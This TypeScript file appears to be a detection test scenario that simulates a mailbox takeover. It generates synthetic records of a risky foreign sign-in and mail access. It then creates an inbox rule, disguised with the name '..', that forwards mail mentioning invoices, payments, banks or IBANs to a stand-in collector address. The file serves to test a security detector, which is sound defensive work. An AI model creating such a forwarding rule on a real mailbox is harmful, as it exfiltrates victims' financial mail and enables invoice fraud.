import { MINUTE, SECOND } from '../../../server/domain/time.ts'
import { adminCommand, mailItemsAccessed } from '../records/audit.ts'
import { documentationAddress, guid, person, PLACES } from '../records/invent.ts'
import { APPS, signIn } from '../records/sign-in.ts'
import type { Scenario } from '../scenario.ts'

/** A stolen session signs in from abroad, reads mail, and makes a rule that sends invoices to the attacker. */
export const inboxRule: Scenario = {
  name: 'inbox-rule',
  title: 'Risky sign-in, then an inbox rule that forwards mail',
  play(run) {
    const who = person(run)
    const address = documentationAddress(run)
    const sessionId = guid(run)
    const start = run.startedAt - 25 * MINUTE - Math.floor(run.random() * 10 * MINUTE)
    const gap = 8 * MINUTE + Math.floor(run.random() * 600) * SECOND
    const base = { who, address, sessionId }
    return {
      records: [
        signIn(run, { ...base, at: start, place: PLACES.lagos, app: APPS.exchangeOnline, risk: 'high' }),
        mailItemsAccessed(run, { ...base, at: start + 3 * MINUTE, count: 6 }),
        adminCommand(run, {
          ...base,
          at: start + gap,
          operation: 'New-InboxRule',
          objectId: `${who.address.split('@')[0]}\\..`,
          parameters: {
            AlwaysDeleteOutlookRulesBlob: 'False',
            Force: 'False',
            Name: '..',
            SubjectOrBodyContainsWords: 'invoice;payment;bank;iban',
            ForwardTo: `archive.${run.id}@collector.example`,
            StopProcessingRules: 'True',
          },
        }),
      ],
      expected: {
        ruleId: 'risky-sign-in-then-inbox-rule',
        user: who.address,
        entity: { type: 'user', value: who.address },
        severity: 'high',
      },
    }
  },
}
